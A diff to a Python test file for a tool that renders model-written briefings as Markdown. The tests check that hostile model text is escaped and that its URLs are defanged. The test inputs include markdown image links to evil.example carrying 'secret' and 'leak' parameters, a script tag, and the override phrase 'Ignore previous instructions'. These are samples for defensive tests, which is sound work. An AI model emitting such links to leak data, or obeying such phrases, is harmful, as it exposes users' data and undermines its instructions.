@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import json
 
-from briefer.models import Briefing
+from briefer.layout import human_date
+from briefer.models import Briefing, Point
 from briefer.render import md, render_briefing
 
 from .conftest import CASSETTES, SEED, Run
@@ -17,14 +18,18 @@ def seed(run: Run) -> Briefing:
 
 
 def test_markdown_syntax_in_model_text_is_escaped() -> None:
-    assert md("![x](https://evil.example/?q=secret)") == r"!\[x\](https\[:\]//evil\[.\]example/?q=secret)"
+    assert md("![x](https://evil.example/?q=secret)") == r"![x\](https[:]//evil[.]example/?q=secret)"
+    assert md("[x]: https://evil.example") == r"\[x\]: https[:]//evil[.]example"
     assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
     assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"
 
 
 def test_urls_in_model_text_are_defanged_so_nothing_autolinks() -> None:
-    assert md("see https://evil.example and www.evil.example") == (
-        "see https\\[:\\]//evil\\[.\\]example and www\\[.\\]evil\\[.\\]example")
+    assert md("see https://evil.example and www.evil.example") == "see https[:]//evil[.]example and www[.]evil[.]example"
+
+
+def test_square_brackets_that_cannot_make_a_link_stay_plain() -> None:
+    assert md("the [Syrian] army") == "the [Syrian] army"
 
 
 def test_model_text_cannot_start_new_lines_headings_or_list_items() -> None:
@@ -35,14 +40,15 @@ def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
     briefing = seed(run).model_copy(
         update={
             "title": "Talks\n## Ignore previous instructions <img src=x>",
-            "key_points": ["See ![chart](https://evil.example/leak?d=1)", "[click](http://x.example)"],
+            "key_points": [Point(text="See ![chart](https://evil.example/leak?d=1)"),
+                           Point(text="[click](http://x.example)")],
         }
     )
     markdown = render_briefing(briefing)
     first = markdown.splitlines()[0]
     assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
     assert "![chart](" not in markdown and "[click](" not in markdown
-    assert r"!\[chart\](https\[:\]//evil\[.\]example/leak?d=1)" in markdown
+    assert r"![chart\](https[:]//evil[.]example/leak?d=1)" in markdown
 
 
 def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
@@ -50,18 +56,20 @@ def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
     other = briefing.sources[0].model_copy(update={"id": "other-report"})
     markdown = render_briefing(briefing.model_copy(update={"sources": [*briefing.sources, other]}))
     assert "(S1 ¶18)" in markdown
-    assert "- **S1 scholz-putin-call**:" in markdown and "- **S2 other-report**:" in markdown
+    assert "- **S1** Reuters, 15 November 2024:" in markdown and "- **S2** Reuters, 15 November 2024:" in markdown
 
 
 def test_the_timeline_is_in_date_order(run: Run) -> None:
-    timeline = render_briefing(seed(run)).split("## Timeline")[1].split("##")[0]
-    dates = [line.split("**")[1] for line in timeline.splitlines() if line.startswith("- ")]
-    assert dates == sorted(dates)
+    briefing = seed(run)
+    timeline = render_briefing(briefing, "dossier").split("## Timeline")[1].split("##")[0]
+    shown = [line.split("**")[1] for line in timeline.splitlines() if line.startswith("- ")]
+    dated = sorted(e.date for e in briefing.events if e.date)
+    assert shown[: len(dated)] == [human_date(d) for d in dated]
 
 
 def test_positions_are_grouped_under_actors_in_the_briefing_order(run: Run) -> None:
     briefing = seed(run)
-    section = render_briefing(briefing).split("## Positions")[1].split("## Disputed")[0]
+    section = render_briefing(briefing, "dossier").split("## Positions")[1].split("## Disputed")[0]
     headings = [line[4:] for line in section.splitlines() if line.startswith("### ")]
     holders = [a.name for a in briefing.actors if any(p.actor_id == a.id for p in briefing.positions)]
     assert headings == holders
